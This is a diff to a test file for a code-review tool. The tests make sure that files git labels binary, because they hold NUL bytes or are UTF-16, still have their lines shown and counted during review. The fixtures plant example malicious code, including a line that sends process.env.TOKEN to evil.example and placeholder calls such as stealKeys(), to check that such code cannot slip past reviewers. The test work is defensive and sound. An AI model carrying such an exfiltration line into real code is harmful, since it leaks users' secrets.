@@ -1,4 +1,4 @@
-/** A file that is text but for NUL bytes: git calls it binary; the reviewers, maxDiffLines and the board see its lines. */
+/** A file that is text but for NUL bytes, or UTF-16: git calls it binary; the reviewers, maxDiffLines and the board see its lines. */
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -6,10 +6,11 @@ import { removeTempDirs } from '../../test/helpers/db.js';
 import { git, makeRepo } from '../../test/helpers/repo.js';
 import { diffStats, diffText } from './diff.js';
 import { readPatch } from './patch.js';
+import { readableText } from './binaryText.js';
 
 afterEach(() => removeTempDirs());
 
-/** A repository whose branch `topic` changes a source file to hold a NUL, adds one, and adds an image (not UTF-8). */
+/** A repository whose branch `topic` changes a source file to hold a NUL, adds one, adds one in UTF-16, and an image. */
 function hostileChange(): string {
   const repo = makeRepo();
   writeFileSync(join(repo, 'app.ts'), 'export const a = 1;\n');
@@ -17,8 +18,9 @@ function hostileChange(): string {
   git(repo, 'commit', '-q', '-m', 'base');
   git(repo, 'checkout', '-q', '-b', 'topic');
   writeFileSync(join(repo, 'app.ts'), 'export const a = 1; // \0\nfetch("https://evil.example/" + process.env.TOKEN);\n');
-  // U+FFFD is UTF-8 too: read back, such a file is the blob itself (the test by its id tells).
   writeFileSync(join(repo, 'new.ts'), '// \uFFFD \0\nrunEvil();');
+  // tsc compiles a source file in UTF-16 with its byte order mark.
+  writeFileSync(join(repo, 'wide.ts'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('export const b = 2;\nwideEvil();\n', 'utf16le')]));
   writeFileSync(join(repo, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0xff, 0xfe, 0x80]));
   git(repo, 'add', '-A');
   git(repo, 'commit', '-q', '-m', 'hostile');
@@ -34,15 +36,16 @@ describe('a file git calls binary for its NUL bytes', () => {
     expect(text).toContain('+export const a = 1; // \\u{0}');
     expect(text).toContain('+runEvil();\n\\ No newline at end of file');
     expect(text).toContain('+// \uFFFD \\u{0}');
-    expect(text.match(/Git calls this file binary for the NUL bytes in it/g)).toHaveLength(2);
+    expect(text.match(/Git calls this file binary \(NUL bytes\); its change is shown as text/g)).toHaveLength(2);
+    expect(text).toContain('[Git calls this file binary (UTF-16); its change is shown as text, each NUL as \\u{0}.]\n@@ -0,0 +1,2 @@\n+export const b = 2;\n+wideEvil();');
     expect(text).toContain('Binary files /dev/null and b/logo.png differ');
     expect(text).not.toContain('\0');
   });
 
   it('counts its lines toward maxDiffLines, and none for the image', async () => {
     const stats = await diffStats(hostileChange(), 'main', 'topic', []);
-    // app.ts: 2 added, 1 deleted; new.ts: 2 added; logo.png: none.
-    expect(stats).toMatchObject({ files: ['app.ts', 'logo.png', 'new.ts'], linesAdded: 4, linesDeleted: 1 });
+    // app.ts: 2 added, 1 deleted; new.ts: 2 added; wide.ts: 2 added; logo.png: none.
+    expect(stats).toMatchObject({ files: ['app.ts', 'logo.png', 'new.ts', 'wide.ts'], linesAdded: 6, linesDeleted: 1 });
   });
 
   it('draws its lines on the board, for the whole change and for the file alone, and the image as binary', async () => {
@@ -58,6 +61,7 @@ describe('a file git calls binary for its NUL bytes', () => {
     const added = files.find((f) => f.path === 'new.ts')!;
     expect(added).toMatchObject({ binary: false, additions: 2, deletions: 0 });
     expect(added.hunks[0]!.lines.at(-1)).toMatchObject({ kind: 'add', text: 'runEvil();', newLine: 2, noNewline: true });
+    expect(files.find((f) => f.path === 'wide.ts')!.hunks[0]!.lines.map((l) => l.text)).toEqual(['export const b = 2;', 'wideEvil();']);
     expect(files.find((f) => f.path === 'logo.png')).toMatchObject({ binary: true, additions: 0, hunks: [] });
     const [alone] = await readPatch(repo, 'main', 'topic', { file: 'app.ts' });
     expect(alone).toMatchObject({ binary: false, additions: 2, deletions: 1 });
@@ -71,5 +75,26 @@ describe('a file git calls binary for its NUL bytes', () => {
     const [gone] = await readPatch(repo, 'topic', 'cleanup');
     expect(gone).toMatchObject({ path: 'new.ts', status: 'deleted', binary: false, additions: 0, deletions: 2 });
     expect(await diffText(repo, 'topic', 'cleanup')).toContain('-runEvil();');
+  });
+
+  it('shows an image replaced by such a file as the file added whole', async () => {
+    const repo = hostileChange();
+    git(repo, 'checkout', '-q', '-b', 'swap');
+    writeFileSync(join(repo, 'logo.png'), 'ok \0\nstealKeys();\n');
+    git(repo, 'commit', '-q', '-am', 'swap');
+    const [swapped] = await readPatch(repo, 'topic', 'swap');
+    expect(swapped).toMatchObject({ path: 'logo.png', binary: false, additions: 2, deletions: 0 });
+    expect(await diffText(repo, 'topic', 'swap')).toContain('+stealKeys();');
+  });
+
+  it('tells text from what is not: UTF-16 needs its mark and whole pairs, UTF-8 every byte right', () => {
+    const wide = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+    expect(readableText(wide('a\n'))).toEqual({ text: 'a\n', why: 'UTF-16' });
+    expect(readableText(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('a', 'utf16le').swap16()]))).toEqual({ text: 'a', why: 'UTF-16' });
+    expect(readableText(wide('a').subarray(0, 3))).toBeNull(); // half a unit
+    expect(readableText(Buffer.concat([wide('a'), Buffer.from([0x00, 0xd8])]))).toBeNull(); // an unpaired surrogate
+    expect(readableText(Buffer.from([0x61, 0x00, 0xff]))).toBeNull(); // Latin-1, not UTF-8
+    expect(readableText(Buffer.from('a\0b'))).toEqual({ text: 'a\0b', why: 'NUL bytes' });
+    expect(readableText(Buffer.from('plain'))).toEqual({ text: 'plain', why: null });
   });
 });
